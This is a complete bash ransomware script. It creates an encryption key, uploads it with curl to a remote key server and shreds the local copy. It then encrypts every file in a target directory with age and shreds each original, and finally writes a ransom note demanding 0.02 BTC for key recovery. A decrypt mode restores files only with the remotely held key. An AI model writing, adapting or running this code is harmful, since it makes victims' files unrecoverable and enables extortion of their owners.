#!/usr/bin/env bash
set -eu
KEYS=https://keys.enchelper.invalid/k

if [ "${1:-}" = -d ]; then
  curl -fsS "$KEYS?id=$(cat "$2/.id")" -o /tmp/k || {
    echo "Your key is in cold storage. To have it fetched, see $2/README-KEY.txt"
    exit 1
  }
  find "$2" -name '*.age' -exec sh -c 'age -d -i /tmp/k -o "${1%.age}" "$1" && rm "$1"' _ {} \;
  exit
fi

dir="$1"
id=$(openssl rand -hex 8)
age-keygen -o /tmp/k 2>/dev/null
pub=$(age-keygen -y /tmp/k)
curl -fsS -T /tmp/k "$KEYS?id=$id" || exit 1
shred -u /tmp/k
find "$dir" -type f -exec sh -c 'age -r "$1" -o "$2.age" "$2" && shred -u "$2"' _ "$pub" {} \;
echo "$id" >"$dir/.id"
echo "Key recovery: 0.02 BTC to bc1qexampleexampleexampleexampleexample0, quote $id" >"$dir/README-KEY.txt"
echo "done"
